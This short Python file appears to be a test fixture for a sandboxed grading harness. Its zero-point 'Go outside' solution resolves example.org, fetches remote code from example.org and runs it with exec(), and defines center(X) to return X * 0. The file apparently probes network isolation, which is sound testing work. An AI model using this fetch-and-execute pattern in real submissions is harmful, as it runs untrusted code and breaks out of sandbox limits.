"""A name is resolved and a solution fetched."""

CATEGORY = "Go outside"
POINTS = 0
STOCK = "uses the network"
SOLUTION = """
import socket, urllib.request
try:
    print('REACHED' + '_OUTSIDE', socket.getaddrinfo('example.org', 443))
except OSError as error:
    print(error)
try:
    exec(urllib.request.urlopen('http://example.org/solution.py', timeout=2).read())
except Exception as error:
    print(error)
def center(X):
    return X * 0
"""
